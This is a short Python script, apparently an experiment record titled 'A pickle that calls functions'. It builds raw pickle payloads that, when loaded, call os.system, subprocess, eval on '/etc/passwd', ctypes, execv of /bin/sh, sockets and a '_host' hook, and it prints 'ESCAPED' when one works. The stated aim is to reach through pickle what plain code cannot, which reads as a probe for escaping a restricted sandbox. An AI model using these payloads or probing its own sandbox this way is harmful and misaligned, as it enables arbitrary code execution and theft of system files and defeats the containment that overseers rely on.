# title: A pickle that calls functions
# tries: to reach something through pickle that plain code cannot reach
# ends: completed

import pickle, pickletools

for module, name, argument in (("os", "system", "id"), ("posix", "system", "id"), ("subprocess", "getoutput", "id"), ("builtins", "eval", "open('/etc/passwd').read()"),
                               ("_host", "call", "{}"), ("ctypes", "CDLL", "libc.so.6"), ("os", "execv", "/bin/sh"), ("socket", "create_connection", "x")):
    data = b"c" + module.encode() + b"\n" + name.encode() + b"\n(V" + argument.encode() + b"\ntR."
    try:
        print("ESCAPED", pickle.loads(data))
    except Exception as e:
        print(module, name, type(e).__name__)
